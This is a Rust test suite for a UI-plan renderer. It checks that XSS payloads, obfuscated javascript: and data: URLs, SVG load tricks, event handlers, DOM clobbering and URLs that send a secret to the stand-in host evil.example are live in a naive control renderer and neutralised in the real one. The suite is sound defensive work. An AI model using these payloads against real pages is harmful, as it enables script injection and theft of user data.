//! Attacks on the renderer. Each runs first against an undefended control, a renderer that joins
//! strings, where the attack must be live; then against ours, where nothing of it may be left.

use glasshouse_plan::{Context, Limits, Profile, ProfileName, check, parse, render};
use serde_json::{Map, Value, json};

use crate::tokens::dangers;

const ALLOWED: &[&str] = &["ga.jspm.io", "cdn.jspm.io", "esm.sh", "unpkg.com"];

/// Renders a node as a program without defences does.
pub(crate) fn undefended(node: &Value, state: &Map<String, Value>) -> String {
    let fill = |text: &str| {
        state.iter().fold(text.to_owned(), |text, (name, value)| {
            let value = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
            text.replace(&format!("{{{{state.{name}}}}}"), &value)
        })
    };
    if let Some(text) = node["value"].as_str() {
        return fill(text);
    }
    let tag = node["tag"].as_str().unwrap();
    let mut out = format!("<{tag}");
    for (name, value) in node["props"].as_object().into_iter().flatten() {
        let text = match value {
            Value::String(text) => fill(text),
            Value::Object(style) => style
                .iter()
                .map(|(name, value)| format!("{name}:{}", value.as_str().unwrap_or_default()))
                .collect::<Vec<_>>()
                .join(";"),
            other => other.to_string(),
        };
        out.push_str(&format!(" {name}=\"{text}\""));
    }
    out.push('>');
    for child in node["children"].as_array().into_iter().flatten() {
        out.push_str(&undefended(child, state));
    }
    out + &format!("</{tag}>")
}

/// Runs one attack in every profile; `shown` says whether a plan without it may still be rendered.
fn attack(node: Value, state: Value) {
    let members = state.as_object().unwrap();
    let control = undefended(&node, members);
    assert!(!dangers(&control, ALLOWED).is_empty(), "the control is not hit by {node}");
    let plan = json!({"specVersion": "runtime-plan/v1", "id": "a", "version": 1,
        "state": {"initial": state}, "root": node});
    let plan = parse(&plan.to_string(), &Limits::default()).unwrap();
    for name in ProfileName::ALL {
        match render(&plan, &Profile::named(name), &Context::new("s").unwrap()) {
            Ok(html) => {
                // Links to any host are what the least careful profile is for.
                let found = dangers(&html.markup, ALLOWED);
                assert!(found.is_empty(), "{name}: {found:?} in {}", html.markup);
            }
            Err(error) => {
                assert!(error.is(glasshouse_plan::codes::UNSAFE), "{name}: {error}");
                assert!(error.report().context["issue_count"].as_u64().unwrap() > 0);
            }
        }
    }
}

fn element(tag: &str, props: Value) -> Value {
    json!({"type": "element", "tag": tag, "props": props})
}

fn text(value: &str) -> Value {
    json!({"type": "element", "tag": "p", "children": [{"type": "text", "value": value}]})
}

#[test]
fn markup_in_text_and_attributes() {
    for value in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</p><svg onload=alert(1)>",
        "<!--",
        "<scr<script>ipt>alert(1)</script><script>1</script>",
    ] {
        attack(text(value), json!({}));
        attack(text("{{state.x}}"), json!({"x": value}));
        attack(element("p", json!({"title": format!("\">{value}")})), json!({}));
        attack(element("p", json!({"title": "{{state.x}}"})), json!({"x": format!("\">{value}")}));
        attack(element("p", json!({"class": format!("' \"><a onclick=\"{value}")})), json!({}));
    }
}

#[test]
fn elements_that_run_or_load() {
    for tag in [
        "script",
        "SCRIPT",
        "iframe",
        "object",
        "embed",
        "link",
        "meta",
        "base",
        "style",
        "foreignObject",
        "animate",
        "set",
        "use",
        "image",
        "math",
        "template",
        "plaintext",
        "noscript",
        "x-element",
        "frame",
    ] {
        attack(element(tag, json!({})), json!({}));
    }
    attack(element("p onclick=alert(1)", json!({})), json!({}));
    attack(element("p><script", json!({})), json!({}));
}

#[test]
fn drawings_that_load_or_move() {
    let in_svg = |child: Value| json!({"type": "element", "tag": "svg", "children": [child]});
    for value in
        ["url(https://evil.example/x)", "URL('https://evil.example/x')", "url(//evil.example)"]
    {
        attack(in_svg(element("rect", json!({"fill": value}))), json!({}));
        attack(in_svg(element("rect", json!({"stroke": "{{state.p}}"}))), json!({"p": value}));
        attack(in_svg(element("g", json!({"clip-path": value}))), json!({}));
    }
    for tag in ["animate", "set", "animateTransform", "animateMotion", "use", "image", "feImage"] {
        let props = json!({"attributeName": "href", "to": "javascript:alert(1)",
            "href": "https://evil.example/x", "xlink:href": "https://evil.example/x"});
        attack(in_svg(element(tag, props)), json!({}));
    }
    let html = json!({"type": "element", "tag": "foreignObject",
        "children": [element("p", json!({"title": "x"}))]});
    attack(in_svg(html), json!({}));
    attack(in_svg(element("script", json!({}))), json!({}));
    attack(in_svg(element("style", json!({}))), json!({}));
}

#[test]
fn handlers() {
    for name in ["onclick", "ONCLICK", "onClick ", "oNerror", "onanimationstart", "on\u{a0}click"] {
        let node = element("p", json!({name: "alert(1)"}));
        let plan = json!({"specVersion": "runtime-plan/v1", "id": "a", "version": 1, "root": node});
        let plan = parse(&plan.to_string(), &Limits::default()).unwrap();
        let relaxed = Profile::named(ProfileName::Relaxed);
        if let Ok(html) = render(&plan, &relaxed, &Context::new("s").unwrap()) {
            assert!(!html.markup.contains("alert"), "{name:?}: {}", html.markup);
        }
    }
    attack(element("p", json!({"onclick": "alert(1)"})), json!({}));
    attack(element("p", json!({"x onclick": "alert(1)"})), json!({}));
    attack(element("p", json!({"x=\"\"><script y": "1"})), json!({}));
}

#[test]
fn script_addresses_in_odd_spellings() {
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " \t\njavascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "java\nscript:alert(1)",
        "java\tscript:alert(1)",
        "java\rscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "DATA:text/html;base64,PHNjcmlwdD4=",
        "blob:https://ga.jspm.io/1",
        "filesystem:https://ga.jspm.io/1",
        "view-source:https://ga.jspm.io/",
    ] {
        for (tag, name) in [("a", "href"), ("a", "HREF"), ("img", "src"), ("q", "cite")] {
            attack(element(tag, json!({name: address})), json!({}));
            attack(element(tag, json!({name: "{{state.u}}"})), json!({"u": address}));
        }
        attack(element("form", json!({"action": address})), json!({}));
        attack(element("button", json!({"formaction": address})), json!({}));
    }
    // A scheme made of parts that are harmless alone.
    attack(element("a", json!({"href": "java{{state.x}}"})), json!({"x": "script:alert(1)"}));
    attack(element("a", json!({"href": "{{state.x}}:alert(1)"})), json!({"x": "javascript"}));
}

#[test]
fn addresses_that_carry_data_away() {
    let secret = json!({"secret": "4711", "host": "evil.example"});
    for address in [
        "https://evil.example/?q={{state.secret}}",
        "//evil.example/{{state.secret}}",
        "\\\\evil.example/{{state.secret}}",
        "/\\evil.example/{{state.secret}}",
        "https:\\\\evil.example/{{state.secret}}",
        "https://ga.jspm.io@evil.example/{{state.secret}}",
        "https://{{state.host}}/{{state.secret}}",
    ] {
        attack(element("img", json!({"src": address})), secret.clone());
        attack(element("a", json!({"href": address})), secret.clone());
    }
    for address in ["https://evil.example/4711", "//evil.example/4711", "https://evil.example:443/"]
    {
        attack(element("img", json!({"src": address})), json!({}));
        attack(element("img", json!({"src": "{{state.u}}"})), json!({"u": address}));
        attack(element("a", json!({"href": "{{state.u}}"})), json!({"u": address}));
        attack(element("img", json!({"srcset": address})), json!({}));
        attack(element("p", json!({"background": address})), json!({}));
        let style = format!("background: url({address})");
        attack(element("p", json!({"style": style})), json!({}));
        attack(
            element("p", json!({"style": {"background": format!("url({address})")}})),
            json!({}),
        );
        attack(
            element("p", json!({"style": "background: {{state.s}}"})),
            json!({"s": format!("url({address})")}),
        );
    }
    // To an allowed host, but with what the state holds: an image would be sent without a click.
    let node = element("img", json!({"src": "https://ga.jspm.io/?q={{state.secret}}"}));
    let plan = json!({"specVersion": "runtime-plan/v1", "id": "a", "version": 1, "root": node,
        "state": {"initial": secret}});
    let plan = parse(&plan.to_string(), &Limits::default()).unwrap();
    for name in ProfileName::ALL {
        assert!(!check(&plan, &Profile::named(name)).safe, "{name}");
    }
}

#[test]
fn styles_that_cover_the_host() {
    for style in ["position: fixed; inset: 0", "POSITION:fixed", "color: red; position: absolute"] {
        attack(element("p", json!({"style": style})), json!({}));
    }
    attack(element("p", json!({"style": {"position": "fixed"}})), json!({}));
}

/// A page that looks a name up as scripts do: by id, then by name.
fn clobbers(html: &str, name: &str) -> bool {
    crate::tokens::tokens(html).iter().any(|token| match token {
        crate::tokens::Token::Start { attributes, .. } => attributes
            .iter()
            .any(|(key, value)| matches!(key.as_str(), "id" | "name") && value == name),
        _ => false,
    })
}

#[test]
fn ids_do_not_take_the_place_of_the_hosts_own() {
    for name in ["location", "attributes", "getElementById", "app"] {
        let node = json!({"type": "element", "tag": "form", "props": {"id": name, "name": name},
            "children": [{"type": "element", "tag": "input", "props": {"name": name, "id": name}}]});
        assert!(clobbers(&undefended(&node, &Map::new()), name), "the control is not hit");
        let plan = json!({"specVersion": "runtime-plan/v1", "id": "a", "version": 1, "root": node});
        let plan = parse(&plan.to_string(), &Limits::default()).unwrap();
        let strict = Profile::named(ProfileName::Strict);
        let html = render(&plan, &strict, &Context::new("s1").unwrap()).unwrap();
        assert!(!clobbers(&html.markup, name), "{}", html.markup);
        assert!(clobbers(&html.markup, &format!("s1-{name}")));
    }
}
